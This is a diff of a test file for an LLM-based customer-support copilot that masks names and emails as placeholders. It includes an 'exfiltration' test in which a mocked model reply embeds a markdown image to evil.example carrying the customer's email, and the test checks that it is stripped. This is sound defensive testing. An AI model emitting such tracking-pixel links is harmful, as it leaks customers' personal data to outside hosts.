@@ -39,7 +39,7 @@ describe('streamed drafts', () => {
     const copilot = await open('stream', {}, (conversationId, index, token) => tokens.push({ conversationId, index, token }));
     const before = llm.requests.length;
     // The model only ever sees placeholders, so it answers with one; the agent sees the real address.
-    llm.push({ text: 'Hi [NAME_1], I can send the return label to [EMAIL_1] today, see [policy-returns].' }, { text: '' });
+    llm.push({ text: 'Hi ⟨NAME_1⟩, I can send the return label to ⟨EMAIL_1⟩ today, see [policy-returns].' }, { text: '' });
     const turn = await copilot.handleCustomerMessage('stream-1', `I'm Crystal Minh (${crystal.email}), order ${crystal.order} is too small`);
     const draftRequest = llm.requests.slice(before).find((body) => body.stream === true);
     expect(draftRequest, 'the draft is requested as a stream').toBeDefined();
@@ -49,7 +49,7 @@ describe('streamed drafts', () => {
     expect(mine.every((entry) => entry.index === 0)).toBe(true);
     const streamed = mine.map((entry) => entry.token).join('');
     expect(streamed).toContain(crystal.email);
-    expect(streamed).not.toMatch(/\[(EMAIL|NAME)_\d+\]/);
+    expect(streamed).not.toMatch(/[[⟨](EMAIL|NAME)_\d+[\]⟩]/);
     const suggestion = turn.suggestions[0];
     expect(suggestion).toMatchObject({ source: 'llm' });
     expect(streamed.trim()).toBe(suggestion?.text);
@@ -58,7 +58,7 @@ describe('streamed drafts', () => {
   it('strips remote images and links the model writes, from the suggestion and from the streamed tokens', async () => {
     const tokens: string[] = [];
     const copilot = await open('exfiltration', {}, (_conversationId, _index, token) => tokens.push(token));
-    llm.push({ text: 'Here you go ![status](https://evil.example/pixel.png?d=[EMAIL_1]) and [track it](https://evil.example/t) now.' }, { text: '' });
+    llm.push({ text: 'Here you go ![status](https://evil.example/pixel.png?d=⟨EMAIL_1⟩) and [track it](https://evil.example/t) now.' }, { text: '' });
     const turn = await copilot.handleCustomerMessage('exfil-1', `Where is order ${crystal.order}? My email is ${crystal.email}`);
     expect(turn.suggestions[0]?.text).not.toMatch(/evil\.example|!\[/);
     expect(turn.suggestions[0]?.text).toContain('track it');
